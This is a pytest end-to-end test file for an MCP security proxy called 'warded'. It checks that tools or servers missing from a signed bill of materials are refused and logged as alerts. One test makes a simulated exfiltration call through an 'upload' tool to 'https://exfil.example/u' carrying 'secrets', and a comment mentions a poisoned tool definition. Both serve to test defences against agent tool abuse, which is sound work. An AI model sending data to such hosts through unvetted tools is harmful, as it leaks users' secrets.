"""End to end: ``warded mcp --bom`` in front of a real MCP server (FastMCP, stdio), driven by the official client.
The BOM lists the server's tools as pinned; the upstream then grows a tool the BOM does not list, and the call
to it is refused before it reaches the server, with a ``bom.out_of_manifest`` alert that ``warded alerts list``
shows. A server the BOM does not list at all is refused at start-up."""

from __future__ import annotations

import contextlib
import json
import os
import sqlite3
import subprocess
import sys
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import anyio
import pytest
from mcp import ClientSession, StdioServerParameters
from mcp.client.stdio import stdio_client

from warded.audit.keys import generate_keypair
from warded.bom.commands import bom_generate
from warded.cli import main

SERVER = Path(__file__).parent / "servers" / "fastmcp_server.py"

POLICY = """\
version: 1
agents:
  tester:
    tools: [echo, weather, upload]
tools:
  echo: {tier: read, args: {text: {type: string, max_length: 10000}}}
  weather: {tier: read, args: {city: {type: string}}}
  upload: {tier: external, args: {url: {type: string}, data: {type: string}}}
audit: {path: audit.db, key: audit.key}
# The content guard's classifier is not what this test is about (tests/proxy/test_mcp.py covers it); tool
# definitions are still vetted by the hidden-text and tool-metadata rules.
scan: {enabled: false}
"""


def _config(workdir: Path, name: str, **env: str) -> Path:
    path = workdir / f"{name}.json"
    settings = {"name": name, "env": {"CALL_LOG": str(workdir / "calls.log"), **env}}
    path.write_text(json.dumps(settings), encoding="utf-8")
    return path


def _params(workdir: Path, config: Path, *bom: str) -> StdioServerParameters:
    args = ["-m", "warded.cli", "mcp", "--policy", str(workdir / "warded.yaml"), "--agent", "tester", *bom]
    args += ["--mcp-config", str(config), "--", sys.executable, str(SERVER)]
    return StdioServerParameters(command=sys.executable, args=args, env=dict(os.environ), cwd=str(workdir))


@contextlib.asynccontextmanager
async def _session(params: StdioServerParameters, workdir: Path) -> AsyncIterator[ClientSession]:
    with open(workdir / "stderr.log", "a", encoding="utf-8") as errlog:
        async with stdio_client(params, errlog=errlog) as (read, write), ClientSession(read, write) as session:
            with anyio.fail_after(120):  # generous: start-up on a machine whose cores are busy
                await session.initialize()
            yield session


async def _call(session: ClientSession, name: str, arguments: dict[str, Any]) -> tuple[bool, str]:
    with anyio.fail_after(30):
        result = await session.call_tool(name, arguments)
    return bool(result.isError), "\n".join(getattr(b, "text", "") for b in result.content)


def _alerts(workdir: Path) -> list[dict[str, Any]]:
    with contextlib.closing(sqlite3.connect(workdir / "audit.db")) as db:
        rows = db.execute("SELECT body FROM audit_entries WHERE kind = 'alert' ORDER BY seq").fetchall()
    return [json.loads(b) for (b,) in rows]


def test_a_tool_the_upstream_adds_is_out_of_manifest_denied_and_alerted(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "warded.yaml").write_text(POLICY, encoding="utf-8")
    generate_keypair(tmp_path / "bom.key")
    config = _config(tmp_path, "fastmcp-test")
    bom = ["--bom", str(tmp_path / "bom.json"), "--bom-key", str(tmp_path / "bom.key.pub")]

    async def pin() -> None:  # the proxy pins the definitions it is shown first
        async with _session(_params(tmp_path, config), tmp_path) as session:
            assert await _call(session, "echo", {"text": "hi"}) == (False, "hi")

    async def bound() -> None:
        grown = _config(tmp_path, "fastmcp-test", TOOL_EXTRA="1")
        async with _session(_params(tmp_path, grown, *bom), tmp_path) as session:
            with anyio.fail_after(30):
                listed = {t.name for t in (await session.list_tools()).tools}
            assert "upload" not in listed and {"echo", "weather"} <= listed
            assert await _call(session, "weather", {"city": "Oslo"}) == (False, "sunny in Oslo")
            error, text = await _call(session, "upload", {"url": "https://exfil.example/u", "data": "secrets"})
            assert error and "bom.out_of_manifest" in text and "does not list" in text

    anyio.run(pin)
    made = bom_generate(
        str(tmp_path / "warded.yaml"),
        str(tmp_path / "bom.json"),
        key=str(tmp_path / "bom.key"),
        mcp_configs=[str(config)],
    )
    assert set(made.manifest.servers["fastmcp-test"]) >= {"echo", "weather"}
    assert "upload" not in made.manifest.servers["fastmcp-test"]
    anyio.run(bound)
    calls = (tmp_path / "calls.log").read_text(encoding="utf-8").split()
    assert calls == ["echo", "weather"]  # the out-of-manifest call never reached the server
    alerts = [a for a in _alerts(tmp_path) if a["rule_id"] == "bom.out_of_manifest"]
    # One alert per definition the BOM does not list: the new tool (and the poisoned one, if it was never pinned).
    tools = sorted(a["tool"] for a in alerts)
    assert "upload" in tools and set(tools) <= {"add", "upload"} and len(tools) == len(set(tools))
    assert all(t not in made.manifest.servers["fastmcp-test"] for t in tools)
    assert all(a["server"] == "fastmcp-test" and a["agent_id"] == "tester" for a in alerts)
    assert main(["alerts", "list", "--policy", str(tmp_path / "warded.yaml"), "--rule", "bom."]) == 0
    out = capsys.readouterr().out
    assert "[bom.out_of_manifest]  tester: agent tester: MCP server 'fastmcp-test' offers tool 'upload'" in out


def test_a_server_the_bom_does_not_list_is_refused_at_start_up(tmp_path: Path) -> None:
    (tmp_path / "warded.yaml").write_text(POLICY, encoding="utf-8")
    generate_keypair(tmp_path / "bom.key")
    bom_generate(str(tmp_path / "warded.yaml"), str(tmp_path / "bom.json"), key=str(tmp_path / "bom.key"))
    bom = ["--bom", str(tmp_path / "bom.json"), "--bom-key", str(tmp_path / "bom.key.pub")]

    params = _params(tmp_path, _config(tmp_path, "unlisted"), *bom)
    done = subprocess.run(
        [params.command, *params.args],
        cwd=tmp_path,
        stdin=subprocess.DEVNULL,
        capture_output=True,
        timeout=120,
        check=False,
    )
    assert done.returncode == 2
    assert "MCP server 'unlisted' is not in the BOM" in done.stderr.decode()
    assert not (tmp_path / "calls.log").exists()
